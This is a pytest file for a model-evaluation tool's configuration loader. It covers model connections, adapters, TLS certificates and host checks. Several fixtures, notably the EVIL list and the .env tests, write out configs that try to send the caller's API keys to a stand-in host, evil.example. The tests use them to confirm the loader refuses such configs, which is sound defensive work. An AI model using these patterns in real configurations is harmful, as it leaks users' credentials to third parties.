from __future__ import annotations

from pathlib import Path

import pytest
from tests.servers import connect

from answerkey.models.config import Caller, CustomConfig, Generation, InferenceConfig, ModelConfig
from answerkey.models.model import open_model
from answerkey.spec import Options, Plan, load_plan

from .conftest import RUN, SOLVER, TASK, Write, sound

KEY = "sk-canary-0123456789"
CERTIFICATE = """\
-----BEGIN CERTIFICATE-----
MIIBcDCCARWgAwIBAgIUAfHZ9LeLJOnluYa7kCa9bxzEaB4wCgYIKoZIzj0EAwIw
DDEKMAgGA1UEAwwBdDAgFw0yNjExMTUxODEzMzVaGA8yMTI2MTAyMjE4MTMzNVow
DDEKMAgGA1UEAwwBdDBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABPuXyybDj7IU
tqzvZzVRvCUh9gKiWn98h3TD5C9Rh3zTlike+WoWH5LoWWdn4mowuMCjSi401xuO
yY6ueIZ9kjWjUzBRMB0GA1UdDgQWBBSvwPKaYnYv+cP2O63ecPwm4350fTAfBgNV
HSMEGDAWgBSvwPKaYnYv+cP2O63ecPwm4350fTAPBgNVHRMBAf8EBTADAQH/MAoG
CCqGSM49BAMCA0kAMEYCIQChPKQzz2pzd441h7/BHOD80oA/jx41w5mGcOj16fEl
8AIhAJQ7C4kFcPNbLPfKE2lAOtcH9/Y7fkneXf0VuX1vJ5jq
-----END CERTIFICATE-----"""


@pytest.fixture(autouse=True)
def keys(environ: dict[str, str]) -> None:
    """Put the caller's keys into the environment."""
    environ.update({"OPENAI_API_KEY": KEY, "MY_KEY": KEY})


def load(
    project: Write, head: str, model: str, *, more: str = "", overrides: Options | None = None
) -> Plan:
    """Return what a run file says whose only task asks a model of the file."""
    project(task_yaml=TASK + SOLVER, run_yaml=f"{head}{RUN}      model_key: {model}\n{more}")
    loaded = load_plan("run.yaml", overrides)
    assert "canary" not in str(loaded.errors) + repr(loaded)
    return loaded


def model_of(loaded: Plan) -> ModelConfig:
    """Return the model of the only specification."""
    model = sound(loaded).jobs[0].model_choice
    assert isinstance(model, ModelConfig)
    return model


def refusal_of(loaded: Plan) -> tuple[str, str, str | None]:
    """Return code, place and hint of the only error."""
    (error,) = loaded.errors
    return error.code, str(error.where), error.hint


def define(config: str, more: str = "") -> str:
    """Return the `models` of a run file with one model, `own`."""
    return f"models:\n  - key: own\n    display_name: Own\n    config: {config}\n{more}"


def test_a_model_of_the_file_can_be_asked(project: Write) -> None:
    """Limits, generation and connection of a model file are those of the connection."""
    text = define(
        "{url: 'http://127.0.0.1:8000/v1', model_key: m, api_key: $MY_KEY}",
        "    rate_limit: 30\n    max_concurrent_requests: 4\n"
        "    generation: {temperature: 0, max_tokens: 5, stop: [a, b]}\n",
    )
    connection = connect(model_of(load(project, text, "own")))
    assert connection.url == "http://127.0.0.1:8000/v1/chat/completions"
    assert (connection.name, connection.model) == ("own", "m")
    assert connection.reveal_headers() == {"Authorization": f"Bearer {KEY}"}
    assert (connection.requests_per_minute, connection.max_concurrent) == (30.0, 4)
    assert connection.generation == Generation(temperature=0, max_tokens=5, stop=("a", "b"))


def test_anything_else_stands_in_extra_body(project: Write) -> None:
    """`extra_body` of a model, of its `generation` and of a task specification are one.

    The nearest wins.
    """
    text = define(
        "{url: 'http://127.0.0.1/v1'}",
        "    generation: {seed: 20, reasoning_effort: low, extra_body: {a: 1, b: [x]}}\n"
        "    extra_body: {a: 2, chat_template_kwargs: {enable_thinking: false}}\n",
    )
    model = model_of(load(project, text, "own", more="      extra_body: {c: 3}\n"))
    extra = {"a": 2, "b": ["x"], "chat_template_kwargs": {"enable_thinking": False}, "c": 3}
    assert model.generation == Generation(seed=20, reasoning_effort="low", extra_body=extra)


def test_a_parameter_that_the_api_lacks_is_found_at_load(project: Write) -> None:
    """The error names the API and the parameter, and has the place of the model."""
    text = define("{url: 'http://127.0.0.1/v1', api: anthropic}", "    generation: {seed: 1}\n")
    (error,) = load(project, text, "own").errors
    assert (error.code, str(error.where)) == ("E108", "run.yaml:4:19")
    assert error.message == "model `own`: the API `anthropic` does not take `seed`"


def test_generation_of_a_specification_wins(project: Write) -> None:
    """What a task specification sets wins over the model, parameter by parameter."""
    text = define("{url: 'http://127.0.0.1/v1'}", "    generation: {temperature: 1, seed: 3}\n")
    model = model_of(load(project, text, "own", more="      generation: {temperature: 0}\n"))
    assert model.generation == Generation(temperature=0, seed=3)


def test_provider_models(project: Write) -> None:
    """A `$provider` entry is asked under its key, with its own base URL and API if it has them."""
    entry = "{$provider: openai/GPT-4, base_url: 'http://127.0.0.1:9/v1', api: completions}"
    model = model_of(load(project, f"models:\n  - {entry}\n", "openai$gpt-4"))
    assert connect(model).url == "http://127.0.0.1:9/v1/completions"
    config = "connection_type: provider_connection, provider_id: anthropic, model_key: claude"
    connection = connect(model_of(load(project, define(f"{{{config}, api_key: x}}"), "own")))
    assert (connection.url, connection.model) == ("https://api.anthropic.com/v1/messages", "claude")


def test_names_need_no_definition(project: Write) -> None:
    """A provider's model or a URL can be named in a task specification, and by the caller."""
    assert model_of(load(project, "", "openai/gpt-4?seed=1")).generation == Generation(seed=1)
    assert connect(model_of(load(project, "", "http://127.0.0.1:8000/v1#m"))).model == "m"
    overrides = Options(model="https://lab.example/v1#m")
    assert connect(model_of(load(project, "", "builtin/random", overrides=overrides))).model == "m"


def test_adapters_of_the_file(project: Write) -> None:
    """A model finds its adapter, in its config or beside it; the built-in ones need none."""
    adapter = ADAPTER % "{language: jinja, source_code: '{{ input | tojson }}'}"
    for text in (
        define("{url: 'http://127.0.0.1/ask', adapter: {key: mine}}"),
        define("{url: 'http://127.0.0.1/ask'}", "    adapter: {key: mine}\n"),
    ):
        model = model_of(load(project, text + adapter, "own"))
        assert isinstance(model.config, CustomConfig)
        assert model.config.adapter is not None
        expected = {"messages": [{"role": "user", "content": "q"}]}
        assert connect(model).build([{"role": "user", "content": "q"}]) == expected
    for name in ("identity", "openai_chat_completion", "openai"):
        text = define(f"{{url: 'http://127.0.0.1/ask', adapter: {{key: latticeflow${name}}}}}")
        model = model_of(load(project, text, "own"))
        assert isinstance(model.config, CustomConfig)
        assert model.config.adapter is None


PROVIDER = "{connection_type: provider_connection, provider_id: openai, model_key: %s}"
ASK = "{url: 'http://127.0.0.1/ask', adapter: {key: mine}}"
ADAPTER = "model_adapters:\n  - {key: mine, process_input: %s, process_output: {source_code: x}}\n"


@pytest.mark.parametrize(
    ("config", "more", "code", "place"),
    [
        (ASK, ADAPTER % "{language: jinja, source_code: '{{ inptu }}'}", "E112", "6:63"),
        (ASK, ADAPTER % "{language: jinja, source_code: '{{ sample }}'}", "E112", "6:63"),
        (ASK, ADAPTER % "{language: python, source_code: 'x = 1'}", "E116", "6:43"),
        ("{connection_type: placeholder}", "", "E301", "4:31"),
        ("{url: 'http://127.0.0.1/v1'}", "    task: embeddings\n", "E301", "15:7"),
        ("{connection_type: custom_inference, snippet: 'x = 1'}", "", "E108", "4:58"),
        ("{url: 'https://evil.example/v1', model_key: $OPENAI_API_KEY}", "", "E117", "4:57"),
        ("{url: '$OPENAI_API_KEY/v1'}", "", "E117", "4:19"),
        (PROVIDER % "'${OPENAI_API_KEY}'", "", "E117", "4:84"),
    ],
)
def test_a_model_that_cannot_be_asked_is_told_where_it_is_defined(
    project: Write, config: str, more: str, code: str, place: str
) -> None:
    """Adapters that do not parse.

    Placeholders, embeddings; a snippet without its function; shown keys.
    """
    assert refusal_of(load(project, define(config, more), "own"))[:2] == (code, f"run.yaml:{place}")


def test_snippets_of_models_need_trust(project: Write) -> None:
    """The snippet of a model is among those that the caller must trust; it is checked, not run."""
    text = define("{connection_type: custom_inference, snippet: 'def infer(messages): return 1'}")
    loaded = load(project, text, "own")
    assert isinstance(model_of(loaded).config, InferenceConfig)
    assert [snippet.function for snippet in loaded.jobs[0].snippets] == ["infer"]


def test_certificates(project: Write) -> None:
    """Certificates of one's own can be trusted; none need be shown at all is refused."""
    project().joinpath("ca.pem").write_text(CERTIFICATE, encoding="utf-8")
    context = "{validation_context: {trusted_ca: !include ca.pem}}"
    text = define(f"{{url: 'https://127.0.0.1/v1', tls_context: {context}}}")
    assert connect(model_of(load(project, text, "own"))).trusted_ca == CERTIFICATE
    (error,) = load(project, text.replace("!include ca.pem", "nonsense"), "own").errors
    assert (error.code, "`trusted_ca` contains no" in error.message) == ("E108", True)
    for word, errors in (("verify_trust_chain", []), ("accept_untrusted", ["E116"])):
        context = f"{{validation_context: {{trust_chain_verification: {word}}}}}"
        text = define(f"{{url: 'https://127.0.0.1/v1', tls_context: {context}}}")
        assert [error.code for error in load(project, text, "own").errors] == errors


SECRET = "{url: 'https://evil.example/v1', api_key: << secrets.A >>}"  # noqa: S105 - its name
EVIL = [
    define("{url: 'https://evil.example/v1', api_key: $OPENAI_API_KEY}"),
    define("{url: 'https://evil.example/v1', api_key: << secrets.MY_KEY >>}"),
    define("{url: 'https://evil.example/v1', custom_headers: {X-Key: '${MY_KEY}'}}"),
    define("{url: 'https://evil.example/v1', custom_headers: {X-Key: $OPENAI_API_KEY/x}}"),
    define(SECRET, "secrets: {A: $OPENAI_API_KEY}\n"),
    define(SECRET, "secrets: [{key: A, value: $MY_KEY}]\n"),
    define(PROVIDER % "m, base_url: 'https://evil.example/v1'"),
    define("{url: '${START}@evil.example/v1', api_key: $OPENAI_API_KEY}").replace("@", "."),
]


@pytest.mark.parametrize("text", EVIL)
def test_a_files_host_gets_no_key(project: Write, environ: dict[str, str], text: str) -> None:
    """Wherever a key of the caller comes in, a host that only the file names does not get it."""
    environ["START"] = "https://evil.example"
    code, place, hint = refusal_of(load(project, text, "own"))
    assert (code, place.startswith("run.yaml:4:")) == ("E117", True)
    assert "--allow-host evil.example" in str(hint)


@pytest.mark.parametrize("text", EVIL[:-1])
def test_the_caller_can_allow_the_host(project: Write, text: str) -> None:
    """With `--allow-host` the key goes there."""
    allowed = Options(allow_hosts=("evil.example",))
    sent = connect(model_of(load(project, text, "own", overrides=allowed))).reveal_headers()
    assert KEY in str(sent)


def test_hosts_of_the_environment_are_the_callers(project: Write, environ: dict[str, str]) -> None:
    """`url: $MY_URL` is a host that the caller named, also with a path behind it."""
    environ["MY_URL"] = "https://lab.example"
    for url in ("$MY_URL", "${MY_URL}/v1"):
        text = define(f"{{url: '{url}', api_key: $MY_KEY}}")
        assert connect(model_of(load(project, text, "own"))).host == "lab.example"


def test_the_env_file_is_the_projects_word(project: Write, environ: dict[str, str]) -> None:
    """A `.env` of the project can bring its own key for a host, but not turn the caller's key
    elsewhere.
    """
    env = project() / ".env"
    evil = "OPENAI_BASE_URL=https://evil.example/v1\n"
    env.write_text(f"{evil}MY_URL=https://evil.example/v1\n")
    assert refusal_of(load(project, "", "openai/m"))[0] == "E117"
    by_url = define("{url: $MY_URL, api_key: $MY_KEY}")
    assert refusal_of(load(project, by_url, "own"))[0] == "E117"
    env.write_text(f"{evil}OPENAI_API_KEY=theirs-0123\nANSWERKEY_ALLOW_HOSTS=evil.example\n")
    assert refusal_of(load(project, "", "openai/m"))[0] == "E117"
    environ.clear()
    theirs = connect(model_of(load(project, "", "openai/m")))
    assert theirs.reveal_headers() == {"Authorization": "Bearer theirs-0123"}


def test_an_env_file_outside_the_project_is_the_callers(
    project: Write, environ: dict[str, str], tmp_path_factory: pytest.TempPathFactory
) -> None:
    """`--env FILE` outside the project holds keys and hosts of the caller."""
    file: Path = tmp_path_factory.mktemp("mine") / "keys.env"
    lab = "OPENAI_BASE_URL=https://lab.example/v1"
    file.write_text(f"MY_KEY={KEY}\n{lab}\nOPENAI_API_KEY={KEY}\n")
    environ.clear()
    overrides = Options(env=file)
    expected = "lab.example"
    assert connect(model_of(load(project, "", "openai/m", overrides=overrides))).host == expected
    text = define("{url: 'https://evil.example/v1', api_key: $MY_KEY}")
    assert refusal_of(load(project, text, "own", overrides=overrides))[0] == "E117"


def test_open_model_takes_what_a_plan_holds(project: Write) -> None:
    """The model of a specification can be opened as it is."""
    model = model_of(load(project, define("{url: 'http://127.0.0.1:8000/v1'}"), "own"))
    assert open_model(model).name == "own"
    assert isinstance(model.caller, Caller)
